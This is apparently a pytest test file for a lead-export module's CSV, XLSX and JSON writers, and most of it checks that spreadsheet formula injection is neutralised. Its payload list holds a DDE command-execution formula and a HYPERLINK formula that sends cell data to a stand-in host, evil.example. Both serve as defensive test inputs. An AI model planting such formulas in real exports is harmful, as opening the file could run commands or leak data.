"""The file writers on their own: formula neutralisation, XLSX typing and sheets, JSON shape."""

from __future__ import annotations

import io
import json
import re
import zipfile
from datetime import UTC, date, datetime
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from exports import writers
from exports.fields import ExportField
from exports.writers import neutralise, write_export
from imports.reading import unquote_formula
from penguinleads.dates import STYLES
from tests.exports.conftest import read_csv

# Real payloads: a DDE command, a phone number, arithmetic, a function, tab and CR
# prefixes, and values that already start with quotes before a formula character.
FORMULA_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''=1+1",
    "'+33 6 12 34 56 78",
]
HARMLESS = ["Zoé", "'quoted", "'", "", "a=b", "O'Brien", "#N/A", "1e5", "TRUE"]

FIELDS = [
    ExportField(key="email", header="Email", source="email", group="lead"),
    ExportField(key="company", header="Company", source="company", group="lead"),
    ExportField(key="tags", header="Tags", source="tag_names", group="related"),
]


@pytest.mark.parametrize("value", FORMULA_PAYLOADS)
def test_a_formula_payload_gets_one_leading_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_a_harmless_value_is_left_alone(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", FORMULA_PAYLOADS + HARMLESS)
def test_the_import_side_inverse_gives_back_exactly_the_value(value):
    assert unquote_formula(neutralise(value)) == value


def rows_of(values: list[str]) -> list[tuple]:
    return [(f"lead{i}@example.com", value, ["VIP"]) for i, value in enumerate(values)]


def test_csv_cells_are_neutralised_and_read_back_exactly():
    stream = io.BytesIO()
    n = write_export(stream, file_format="csv", fields=FIELDS, rows=rows_of(FORMULA_PAYLOADS))
    assert n == len(FORMULA_PAYLOADS)
    records = read_csv(stream.getvalue())
    assert [r["Company"] for r in records] == ["'" + v for v in FORMULA_PAYLOADS]
    assert [unquote_formula(r["Company"]) for r in records] == FORMULA_PAYLOADS


def test_csv_is_utf8_with_a_byte_order_mark_and_crlf_line_ends():
    stream = io.BytesIO()
    write_export(stream, file_format="csv", fields=FIELDS, rows=rows_of(["Lumière"]))
    data = stream.getvalue()
    assert data == "\ufeffEmail,Company,Tags\r\nlead0@example.com,Lumière,VIP\r\n".encode()


def load(stream: io.BytesIO):
    stream.seek(0)
    return load_workbook(stream)


def xlsx_held(value: str) -> str:
    """What an XLSX cell holds for ``value``: an apostrophe only before leading apostrophes."""
    return "'" + value if value.startswith("'") and neutralise(value) != value else value


def test_xlsx_cells_are_text_even_when_they_look_like_formulas_numbers_or_errors():
    values = [*FORMULA_PAYLOADS, "#N/A", "1e5", "007", "=1+1"]
    stream = io.BytesIO()
    write_export(stream, file_format="xlsx", fields=FIELDS, rows=rows_of(values))
    sheet = load(stream)["Leads"]
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    got = [cell.value for cell in cells]
    # XML turns a carriage return into a line feed; every other value is exact.
    assert got == [xlsx_held(v).replace("\r", "\n") for v in values]
    assert got[-1] == "=1+1"  # text, not the formula's result
    assert got[2] == "+33 6 12 34 56 78"  # no visible apostrophe…
    # …Excel's own quote prefix instead, on exactly the formula-like values.
    assert [cell.quotePrefix for cell in cells] == [True] * len(FORMULA_PAYLOADS) + [
        False, False, False, True,
    ]  # fmt: skip
    # The import's inverse gives back exactly what was exported.
    assert [unquote_formula(v) for v in got] == [v.replace("\r", "\n") for v in values]


def sheet_xml(stream: io.BytesIO) -> tuple[str, list[dict], dict[int, str]]:
    """The first sheet's XML, the style sheet's cell formats (attributes) and number formats."""
    with zipfile.ZipFile(stream) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        styles = ElementTree.fromstring(archive.read("xl/styles.xml"))
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    xfs = [dict(xf.attrib) for xf in styles.find("m:cellXfs", ns)]
    formats = {
        int(f.get("numFmtId")): f.get("formatCode") for f in styles.iterfind(".//m:numFmt", ns)
    }
    return sheet, xfs, formats


def test_a_formula_like_xlsx_cell_is_a_quote_prefixed_string_in_the_files_xml():
    stream = io.BytesIO()
    rows = rows_of(["+33 6 12 34 56 78", '=HYPERLINK("http://evil.example")', "Plain"])
    write_export(stream, file_format="xlsx", fields=FIELDS, rows=rows)
    sheet, xfs, _ = sheet_xml(stream)
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere
    cells = dict(re.findall(r'<c r="(B[234])"([^>]*)>', sheet))
    for ref, quoted in [("B2", True), ("B3", True), ("B4", False)]:
        attributes = dict(re.findall(r'(\w+)="([^"]*)"', cells[ref]))
        assert attributes["t"] in {"s", "inlineStr"}, ref
        style = xfs[int(attributes.get("s", 0))]
        assert (style.get("quotePrefix") == "1") is quoted, ref
    assert "<t>+33 6 12 34 56 78</t>" in sheet  # the value has no leading apostrophe
    assert "<t>'" not in sheet


def test_xlsx_dates_are_date_cells_in_the_workspaces_zone_and_style():
    fields = [
        FIELDS[0],
        ExportField(key="created_at", header="Created", source="created_at", group="record"),
        ExportField(
            key="cf:renewal",
            header="Renewal",
            source="custom_fields__renewal",
            group="custom",
            custom_type="date",
        ),  # fmt: skip
    ]
    rows = [
        # Text rows (exports.selectors.export_text_rows) and typed rows alike.
        ("a@example.com", "2026-12-07T15:45:00+00:00", "2027-03-25"),
        ("b@example.com", datetime(2026, 7, 1, 8, 0, tzinfo=UTC), date(2027, 1, 2)),
        ("c@example.com", "", "next spring"),  # a value that is no date stays text
    ]
    stream = io.BytesIO()
    write_export(
        stream, file_format="xlsx", fields=fields, rows=rows,
        time_zone=ZoneInfo("America/New_York"), date_style=STYLES["en-US"],
    )  # fmt: skip
    sheet = load(stream)["Leads"]
    a, b, c = (list(row) for row in sheet.iter_rows(min_row=2))
    assert a[1].is_date and a[1].value == datetime(2026, 12, 7, 10, 45)  # New York's wall clock
    assert b[1].value == datetime(2026, 7, 1, 4, 0)  # summer time
    assert a[1].number_format == "mmm d, yyyy, h:mm AM/PM"
    assert a[2].is_date and a[2].value == datetime(2027, 3, 25)
    assert a[2].number_format == "mmm d, yyyy"
    assert b[2].value == datetime(2027, 1, 2)
    assert (c[1].value, c[2].value, c[2].data_type) == (None, "next spring", "s")
    # In the file: numbers (days since 1900) with a date format, not text.
    xml, xfs, formats = sheet_xml(stream)
    created = re.search(r'<c r="B2"([^>]*)><v>([^<]+)</v>', xml)
    attributes = dict(re.findall(r'(\w+)="([^"]*)"', created.group(1)))
    assert attributes.get("t", "n") == "n" and float(created.group(2)) > 46000
    assert formats[int(xfs[int(attributes["s"])]["numFmtId"])] == "mmm d, yyyy, h:mm AM/PM"


def test_xlsx_has_a_bold_frozen_header_an_autofilter_and_sized_columns():
    stream = io.BytesIO()
    rows = rows_of(["A company with a rather long name, Incorporated", "Short"])
    write_export(stream, file_format="xlsx", fields=FIELDS, rows=rows)
    workbook = load(stream)
    assert workbook.sheetnames == ["Leads"]
    sheet = workbook["Leads"]
    assert [c.value for c in sheet[1]] == ["Email", "Company", "Tags"]
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:C3"
    widths = {k: sheet.column_dimensions[k].width for k in "ABC"}
    assert widths["B"] > widths["C"] >= writers.MIN_WIDTH
    assert widths["B"] <= writers.MAX_WIDTH


def test_xlsx_continues_on_further_sheets_beyond_the_row_cap(monkeypatch):
    monkeypatch.setattr(writers, "XLSX_MAX_DATA_ROWS", 3)
    stream = io.BytesIO()
    values = [f"Company {i}" for i in range(7)]
    assert write_export(stream, file_format="xlsx", fields=FIELDS, rows=rows_of(values)) == 7
    workbook = load(stream)
    assert workbook.sheetnames == ["Leads", "Leads (2)", "Leads (3)"]
    seen = []
    for name, count in [("Leads", 3), ("Leads (2)", 3), ("Leads (3)", 1)]:
        sheet = workbook[name]
        assert [c.value for c in sheet[1]] == ["Email", "Company", "Tags"]
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == f"A1:C{count + 1}"
        seen += [row[1].value for row in sheet.iter_rows(min_row=2)]
    assert seen == values


def test_xlsx_drops_control_characters_that_a_workbook_cannot_hold():
    stream = io.BytesIO()
    write_export(stream, file_format="xlsx", fields=FIELDS, rows=rows_of(["Bell\x07 Corp"]))
    assert load(stream)["Leads"]["B2"].value == "Bell Corp"


@pytest.mark.parametrize(
    ("value", "shown"),
    [("\x01=1+1", "=1+1"), ("\x02\x03@SUM(1)", "@SUM(1)"), ("'\x01=x", "''=x")],
)
def test_xlsx_drops_control_characters_before_deciding_whether_a_value_is_a_formula(value, shown):
    title = ExportField(key="job_title", header="\x01=HDR()", source="job_title", group="lead")
    fields = [*FIELDS[:2], title]
    stream = io.BytesIO()
    write_export(stream, file_format="xlsx", fields=fields, rows=[("a@example.com", value, "")])
    sheet = load(stream)["Leads"]
    assert sheet["B2"].value == shown and sheet["B2"].data_type == "s"
    assert sheet["B2"].quotePrefix
    assert (sheet["C1"].value, sheet["C1"].quotePrefix) == ("=HDR()", True)
    assert unquote_formula(shown) == value.replace("\x01", "").replace("\x02\x03", "")


def test_csv_holds_control_characters_so_they_are_kept_and_decide_nothing():
    stream = io.BytesIO()
    write_export(stream, file_format="csv", fields=FIELDS, rows=rows_of(["\x01=1+1", "=\x01"]))
    assert [r["Company"] for r in read_csv(stream.getvalue())] == ["\x01=1+1", "'=\x01"]


def test_an_empty_xlsx_export_still_has_its_header():
    stream = io.BytesIO()
    assert write_export(stream, file_format="xlsx", fields=FIELDS, rows=[]) == 0
    sheet = load(stream)["Leads"]
    assert [c.value for c in sheet[1]] == ["Email", "Company", "Tags"]


def test_json_is_an_array_of_raw_objects_with_arrays_and_a_custom_fields_object():
    fields = [
        *FIELDS,
        ExportField(key="created_at", header="Created", source="created_at", group="record"),
        ExportField(
            key="cf:deal_size",
            header="Deal size",
            source="custom_fields__deal_size",
            group="custom",
            custom_type="number",
        ),  # fmt: skip
    ]
    when = datetime(2024, 3, 12, 9, 15, tzinfo=UTC)
    rows = [
        ("a@example.com", "=1+1", ["VIP", "Webinar"], when, 12000),
        ("b@example.com", "Zoé SA", None, when, None),
    ]
    stream = io.BytesIO()
    assert write_export(stream, file_format="json", fields=fields, rows=rows) == 2
    data = json.loads(stream.getvalue().decode("utf-8"))
    assert data == [
        {"email": "a@example.com", "company": "=1+1", "tags": ["VIP", "Webinar"],
         "created_at": "2024-03-12T09:15:00+00:00", "custom_fields": {"deal_size": 12000}},
        {"email": "b@example.com", "company": "Zoé SA", "tags": [],
         "created_at": "2024-03-12T09:15:00+00:00", "custom_fields": {"deal_size": None}},
    ]  # fmt: skip
    assert "Zoé".encode() in stream.getvalue()  # raw UTF-8, not \u escapes


def test_an_empty_json_export_is_an_empty_array():
    stream = io.BytesIO()
    write_export(stream, file_format="json", fields=FIELDS, rows=iter(()))
    assert json.loads(stream.getvalue()) == []


def test_an_unknown_format_is_refused():
    with pytest.raises(ValueError, match="Unknown export format"):
        write_export(io.BytesIO(), file_format="pdf", fields=FIELDS, rows=[])
